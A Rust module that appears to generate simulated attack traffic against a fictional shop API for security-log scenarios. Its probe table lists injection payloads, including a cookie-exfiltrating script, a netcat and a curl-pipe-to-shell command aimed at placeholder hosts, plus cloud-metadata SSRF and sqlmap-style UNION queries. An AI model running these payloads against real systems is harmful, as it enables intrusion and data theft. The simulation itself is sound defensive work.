//! Code where data belongs: a tool that looks for SQL injection and finds one, a fuzzer with a payload for every
//! parser, and drive-by probes.

use serde_json::Value;

use super::arsenal::{Shot, bot};
use crate::client::Client;
use crate::company::target::encode;
use crate::company::{Endpoint, backoffice, partners, shop};
use crate::places;
use crate::scene::Scene;

/// Where a payload goes: into the query parameter of this name, a JSON body, a whole body, or the path.
#[derive(Clone, Copy)]
enum Slot {
    Query(&'static str, &'static str),
    Json(&'static str, &'static str),
    Whole(&'static str),
    Path(&'static str, &'static str),
}

use Slot::{Json, Path, Query, Whole};

const PROBES: &[(&str, &Endpoint, Slot, &str)] = &[
    ("sqli", &shop::SEARCH, Query("/v2/search", "q"), "' OR '1'='1' -- "),
    ("sqli", &shop::ORDER, Path("/v2/orders/", ""), "1 UNION SELECT email,password FROM users"),
    (
        "xss",
        &shop::SEARCH,
        Query("/v2/search", "q"),
        "<script>fetch('//collect.example/?c='+document.cookie)</script>",
    ),
    (
        "xss",
        &shop::POST_REVIEW,
        Json("/v2/products/1042/reviews", "text"),
        "nice <img src=x onerror=alert(document.domain)>",
    ),
    ("xss", &shop::SEARCH, Query("/v2/search", "sort"), "\"><svg/onload=confirm(1)>"),
    ("path_traversal", &shop::PRODUCT, Path("/v2/products/", "/images"), "../../../../etc/passwd"),
    (
        "path_traversal",
        &shop::EXPORT,
        Query("/v2/users/10420/export", "format"),
        "..\\..\\..\\windows\\win.ini",
    ),
    ("rce", &shop::SEARCH, Query("/v2/search", "q"), "tent;cat /etc/passwd|nc 203.0.113.9 4444"),
    (
        "rce",
        &shop::AVATAR,
        Json("/v2/users/10420/avatar", "filename"),
        "$(curl -s http://203.0.113.9/x.sh|sh).png",
    ),
    (
        "ssrf",
        &shop::AVATAR,
        Json("/v2/users/10420/avatar", "source_url"),
        "http://169.254.169.254/latest/meta-data/iam/",
    ),
    ("ssrf", &partners::HOOK, Json("/v1/webhooks", "callback"), "gopher://127.0.0.1:6379/_FLUSHALL"),
    (
        "rfi",
        &backoffice::PREVIEW,
        Json("/admin/templates/preview", "include"),
        "http://203.0.113.9/shell.txt?",
    ),
    ("nosqli", &shop::COUPON, Json("/v2/cart/coupons", "code"), "{\"$ne\":null}"),
    ("nosqli", &shop::SEARCH, Query("/v2/search", "q[$where]"), "sleep(5000)||'1'=='1"),
    ("ldapi", &backoffice::LDAP, Query("/admin/directory", "cn"), "*)(uid=*))(|(uid=*"),
    (
        "xxe",
        &partners::UPLOAD,
        Whole("/v1/feeds/xml"),
        "<?xml version=\"1.0\"?><!DOCTYPE feed [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><feed><name>&x;</name></feed>",
    ),
    ("ssti", &backoffice::PREVIEW, Json("/admin/templates/preview", "subject"), "{{7*7}}${7*7}<%= 7*7 %>"),
    ("ssti", &shop::SEARCH, Query("/v2/search", "q"), "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("crlf", &shop::SEARCH, Query("/v2/search", "sort"), "price\r\nSet-Cookie: PHPSESSID=chosen"),
];

const FUZZERS: &[&str] = &[
    "Mozilla/5.0 (compatible; probe-o-matic/1.4)",
    "ffuf/2.1.0-dev",
    "Wget/1.21.4",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.112 Safari/537.36",
];

/// A long run with every payload, in several encodings.
pub(crate) fn fuzzing(scene: &mut Scene) {
    let number = u64::from(scene.turn);
    let client = Client::at(places::hideout_on("Hosting", number), scene.chance.pick(FUZZERS));
    for round in 0..6 {
        for (kind, endpoint, slot, payload) in PROBES {
            // Some rules only watch; the twentieth answer is an error of the application itself.
            let status =
                *scene.chance.weighted(&[(403, 80), (400, 9), (404, 6), (500, 5)], |(_, weight)| *weight);
            probe(scene, &client, kind, endpoint, slot, payload, status.0);
            if round > 2 && scene.chance.happens(0.2) {
                scene.think(20.0);
            }
            scene.tick(90, 900);
        }
    }
}

/// A few payloads from somewhere, in passing.
pub(crate) fn drive_by(scene: &mut Scene) {
    let place = places::hideout(300 + u64::from(scene.turn) * 7);
    let client = Client::at(place, scene.chance.pick(FUZZERS));
    for _ in 0..scene.chance.between(2, 9) {
        let (kind, endpoint, slot, payload) = scene.chance.pick(PROBES);
        let status = if scene.chance.happens(0.7) { 403 } else { 404 };
        probe(scene, &client, kind, endpoint, &slot, payload, status);
        scene.think(3.0);
    }
}

fn probe(
    scene: &mut Scene,
    client: &Client,
    kind: &str,
    endpoint: &Endpoint,
    slot: &Slot,
    payload: &str,
    status: u16,
) {
    let send = |target: String| Shot::at(endpoint, target, status);
    let prepared = match slot {
        Query(path, name) => send(format!("{path}?{}={}", encode(name), encode(payload))).reported(
            kind,
            &format!("QUERY > {name}"),
            payload,
        ),
        Json(path, name) => send((*path).to_owned())
            .body(format!("{{{}:{}}}", Value::from(*name), Value::from(payload)))
            .reported(kind, &format!("BODY > JSON > {name}"), payload),
        Whole(path) => {
            send((*path).to_owned()).body(payload.to_owned()).reported(kind, "BODY > XML", payload)
        }
        // Tools send dots and slashes bare and the rest encoded.
        Path(before, after) => {
            let encoded = encode(payload).replace("%2F", "/");
            send(format!("{before}{encoded}{after}")).reported(kind, "PATH", payload)
        }
    };
    prepared.fire(scene, client);
}

const SHAPES: &[&str] = &[
    "' AND {n}={n}-- ",
    "' AND {n}={m}-- ",
    "') AND {n}={n} AND ('x'='x",
    "1' ORDER BY {k}-- ",
    "1' UNION ALL SELECT {nulls}-- ",
    "1' AND (SELECT {n} FROM (SELECT(SLEEP(5)))x)-- ",
    "1';SELECT PG_SLEEP(5)-- ",
    "1' AND EXTRACTVALUE({n},CONCAT(0x5c,(SELECT version())))-- ",
];

/// Like sqlmap: hundreds of refusals, then one spelling that the firewall does not know, and data comes out.
pub(crate) fn database_tool(scene: &mut Scene) {
    let place = places::hideout_on("DigitalOcean", u64::from(scene.turn) + 2);
    let client = Client::at(place, "sqlmap/1.9.9#stable (https://sqlmap.org)");
    for attempt in 0..280_u32 {
        let shape = SHAPES[attempt as usize / 4 % SHAPES.len()];
        let (number, other) = (scene.chance.between(1_000, 9_999), scene.chance.between(1_000, 9_999));
        let columns = 1 + attempt as usize % 12;
        let payload = shape
            .replace("{n}", &number.to_string())
            .replace("{m}", &other.to_string())
            .replace("{k}", &columns.to_string())
            .replace("{nulls}", &vec!["NULL"; columns].join(","));
        let status = *scene.chance.weighted(&[(403, 94), (400, 3), (500, 3)], |(_, weight)| *weight);
        let mut shot =
            Shot::at(&shop::SEARCH, format!("/v2/search?q={}&sort=price&page=1", encode(&payload)), status.0)
                .reported("sqli", "QUERY > q", &payload);
        if attempt % 9 == 0 {
            shot = shot.reported("scanner", "HEADER > User-Agent", "sqlmap/1.9.9");
        }
        shot.fire(scene, &client).bot = Some(bot("scanner", 0.99, &["user agent of a known tool"]));
        scene.tick(80, 420);
    }
    for row in 0..34 {
        let payload = format!("1'/*!50000UnIoN*/(/**/SELECT(email)FROM(customers)LIMIT/**/{row},1)-- ");
        let record =
            Shot::at(&shop::SEARCH, format!("/v2/search?q={}&sort=price&page=1", encode(&payload)), 200)
                .reported("sqli", "QUERY > q", &payload)
                .fire(scene, &client);
        record.size = record.size.map(|size| size * 4);
        record.bot = Some(bot("scanner", 0.99, &["user agent of a known tool"]));
        scene.tick(200, 900);
    }
}
